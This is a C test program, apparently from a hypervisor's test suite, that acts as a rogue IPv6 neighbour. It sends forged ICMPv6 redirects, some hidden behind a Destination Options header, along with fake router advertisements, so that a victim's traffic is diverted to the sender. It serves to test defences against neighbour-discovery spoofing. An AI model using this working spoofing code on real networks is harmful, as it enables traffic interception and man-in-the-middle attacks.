/* tests/apps/nd6rogue/main.c: a hostile neighbour on an IPv6 segment, raw frames only: redirects (plain and behind a Destination Options header) that would send a victim's traffic to it, and router advertisements. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <univisor.h>

#define ETH_HDR 14
#define ETH_IPV6 0x86dd
#define IP6_HDR 40
#define NEXT_ICMP6 58
#define NEXT_DEST_OPTS 60
#define HOP_LIMIT_ND 255     /* RFC 4861 7.1.1: ND messages arrive with hop limit 255 */
#define ICMP6_RA 134
#define ICMP6_REDIRECT 137
#define OPT_SRC_LL 1
#define OPT_TGT_LL 2
#define OPT_PREFIX 3
#define PERIOD_US 50000      /* one round of frames */
#define ROUNDS 300           /* 15 s of it, then the app ends */

static uint8_t own_mac[6], own_ll[16], victim_mac[6], victim_ll[16], dest[16];

static void wr16(uint8_t *p, unsigned v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void wr32(uint8_t *p, uint32_t v) { wr16(p, v >> 16); wr16(p + 2, v & 0xffff); }

/* fe80::/64 and the modified EUI-64 of mac (RFC 4291 appendix A). */
static void link_local(const uint8_t mac[6], uint8_t a[16])
{
	memset(a, 0, 16);
	a[0] = 0xfe, a[1] = 0x80;
	a[8] = mac[0] ^ 0x02, a[9] = mac[1], a[10] = mac[2], a[11] = 0xff, a[12] = 0xfe;
	a[13] = mac[3], a[14] = mac[4], a[15] = mac[5];
}

/* RFC 8200 8.1: the ICMPv6 checksum over the pseudo-header and the message. */
static uint16_t icmp6_sum(const uint8_t src[16], const uint8_t dst[16], const uint8_t *m, size_t len)
{
	uint32_t s = NEXT_ICMP6 + (uint32_t)len;
	for (int i = 0; i < 16; i += 2)
		s += (uint32_t)(src[i] << 8 | src[i + 1]) + (uint32_t)(dst[i] << 8 | dst[i + 1]);
	for (size_t i = 0; i < len; i += 2)
		s += (uint32_t)(m[i] << 8 | (i + 1 < len ? m[i + 1] : 0));
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* A frame from us to dst_mac/dst carrying the ICMPv6 message m (behind a Destination Options header when wrap). */
static size_t frame(uint8_t *f, const uint8_t dst_mac[6], const uint8_t dst[16], const uint8_t *m, size_t len, int wrap)
{
	memcpy(f, dst_mac, 6);
	memcpy(f + 6, own_mac, 6);
	wr16(f + 12, ETH_IPV6);
	uint8_t *ip = f + ETH_HDR, *p = ip + IP6_HDR;
	size_t ext = wrap ? 8 : 0;
	memset(ip, 0, IP6_HDR);
	ip[0] = 0x60;
	wr16(ip + 4, (unsigned)(ext + len));
	ip[6] = wrap ? NEXT_DEST_OPTS : NEXT_ICMP6;
	ip[7] = HOP_LIMIT_ND;
	memcpy(ip + 8, own_ll, 16);
	memcpy(ip + 24, dst, 16);
	if (wrap) { /* RFC 8200 4.6: next header ICMPv6, length 0 (8 bytes), one PadN option of 4 */
		static const uint8_t opts[8] = { NEXT_ICMP6, 0, 1, 4, 0, 0, 0, 0 };
		memcpy(p, opts, sizeof(opts));
		p += ext;
	}
	memcpy(p, m, len);
	wr16(p + 2, icmp6_sum(own_ll, dst, p, len));
	return ETH_HDR + IP6_HDR + ext + len;
}

/* RFC 4861 4.5: "send dest's traffic to me", with our MAC as the target's link-layer address. */
static size_t redirect(uint8_t *m)
{
	memset(m, 0, 48);
	m[0] = ICMP6_REDIRECT;
	memcpy(m + 8, own_ll, 16);
	memcpy(m + 24, dest, 16);
	m[40] = OPT_TGT_LL, m[41] = 1;
	memcpy(m + 42, own_mac, 6);
	return 48;
}

/* RFC 4861 4.2: "I am a router for 30 minutes; fd00:6::/64 is on-link and autonomous". */
static size_t advertisement(uint8_t *m)
{
	memset(m, 0, 56);
	m[0] = ICMP6_RA;
	m[4] = 64;
	wr16(m + 6, 1800);
	uint8_t *o = m + 16;
	o[0] = OPT_PREFIX, o[1] = 4, o[2] = 64, o[3] = 0xc0;
	wr32(o + 4, 86400);
	wr32(o + 8, 14400);
	memcpy(o + 16, dest, 8);
	o = m + 48;
	o[0] = OPT_SRC_LL, o[1] = 1;
	memcpy(o + 2, own_mac, 6);
	return 56;
}

static int parse_mac(const char *s, uint8_t mac[6])
{
	unsigned v[6];
	if (!s || sscanf(s, "%2x:%2x:%2x:%2x:%2x:%2x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
		return -1;
	for (int i = 0; i < 6; i++)
		mac[i] = (uint8_t)v[i];
	return 0;
}

/* args: victim=MAC (its link-local address follows from it) */
int main(int argc, char **argv)
{
	struct uv_net_info info;
	static const uint8_t all_nodes_mac[6] = { 0x33, 0x33, 0, 0, 0, 1 }, all_nodes[16] = { 0xff, 2, [15] = 1 };
	static const uint8_t echo_static[16] = { 0xfd, 0, 0, 6, [15] = 1 }; /* fd00:6::1, tests/boot/ipv6.conf */
	if (argc != 2 || strncmp(argv[1], "victim=", 7) || parse_mac(argv[1] + 7, victim_mac) || uv_hc_net_info(0, &info)) {
		printf("nd6rogue: usage: nd6rogue victim=MAC (and a granted vNIC 0)\n");
		return 2;
	}
	memcpy(own_mac, info.mac, 6);
	link_local(own_mac, own_ll);
	link_local(victim_mac, victim_ll);
	memcpy(dest, echo_static, 16);
	unsigned long sent = 0, failed = 0;
	for (int r = 0; r < ROUNDS; r++) {
		uint8_t m[64], f[160];
		size_t n = redirect(m);
		for (int wrap = 0; wrap < 2; wrap++) {
			size_t len = frame(f, victim_mac, victim_ll, m, n, wrap);
			uv_hc_net_write(0, f, len) < 0 ? failed++ : sent++;
		}
		n = advertisement(m);
		size_t len = frame(f, all_nodes_mac, all_nodes, m, n, 0);
		uv_hc_net_write(0, f, len) < 0 ? failed++ : sent++;
		usleep(PERIOD_US);
	}
	printf("nd6rogue: sent %lu redirects and advertisements (%lu not taken)\n", sent, failed);
	return 0;
}
